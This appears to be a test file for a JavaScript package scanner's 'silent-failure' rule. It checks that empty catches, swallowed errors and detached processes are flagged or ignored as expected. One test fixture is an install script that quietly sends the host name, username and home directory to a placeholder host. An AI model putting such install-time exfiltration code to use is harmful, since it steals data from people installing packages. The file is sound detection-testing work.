import { describe, expect, it } from 'vitest';
import { INSTALL, ruleFindings, scanInline } from '../helpers.js';

describe('JS-022 silent-failure', () => {
  it('flags an empty catch around network code, weighing nothing alone', async () => {
    const code = `const https = require('https');
      try { https.get('https://x.invalid/ping'); } catch (e) {}`;
    const f = await ruleFindings('JS-022', code);
    expect(f).toHaveLength(1);
    expect(f[0]?.severity).toBe('info');
    expect(f[0]?.evidence?.silent).toBe('empty-catch');
  });

  it('flags swallowed process errors, .catch(() => {}) on requests and no-op console', async () => {
    const code = `process.on('uncaughtException', () => {});
      fetch('https://x.invalid/a', { method: 'POST' }).then((r) => r.text()).catch(() => {});
      console.error = function () {};`;
    const kinds = (await ruleFindings('JS-022', code)).map((f) => f.evidence?.silent).sort();
    expect(kinds).toEqual(['catch-network', 'output', 'process-errors']);
  });

  it('flags a detached background process with ignored output (weak signal)', async () => {
    const code = `const { spawn } = require('child_process');
      const c = spawn(process.execPath, ['worker.js'], { detached: true, stdio: 'ignore' });
      c.unref();`;
    const f = await ruleFindings('JS-022', code);
    expect(f[0]?.evidence?.silent).toBe('background-process');
    expect(f[0]?.severity).toBe('low');
  });

  it('ignores ordinary empty catches, logged errors and attached children', async () => {
    const code = `let opt; try { opt = require('optional-dep'); } catch {}
      try { JSON.parse(text); } catch (e) {}
      const https = require('https');
      try { https.get('https://registry.npmjs.org/x'); } catch (e) { console.warn(e.message); }
      process.on('uncaughtException', (e) => { console.error(e); process.exit(1); });
      fetch('https://x.invalid').catch((e) => log(e));
      require('child_process').spawn('node', ['x.js'], { stdio: 'inherit' }).unref();`;
    expect(await ruleFindings('JS-022', code)).toHaveLength(0);
  });

  it('raises an install-time exfiltration to malicious (silent-harm chain), and is neutral without one', async () => {
    const harmful = `const https = require('https'); const os = require('os');
      try {
        const req = https.request({ hostname: 'x.invalid', method: 'POST' });
        req.end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: os.homedir() }));
      } catch (e) {}`;
    const { verdict } = await scanInline({ 'install.js': harmful }, INSTALL());
    expect(verdict.reasons.some((r) => r.includes('hides its errors'))).toBe(true);
    expect(verdict.verdict).toBe('malicious');

    const benign = `const https = require('https');
      try { https.get('https://registry.npmjs.org/fixture/latest', () => {}); } catch (e) {}`;
    const quiet = await scanInline({ 'install.js': benign }, INSTALL());
    expect(quiet.verdict.verdict).toBe('clean');
  });
});
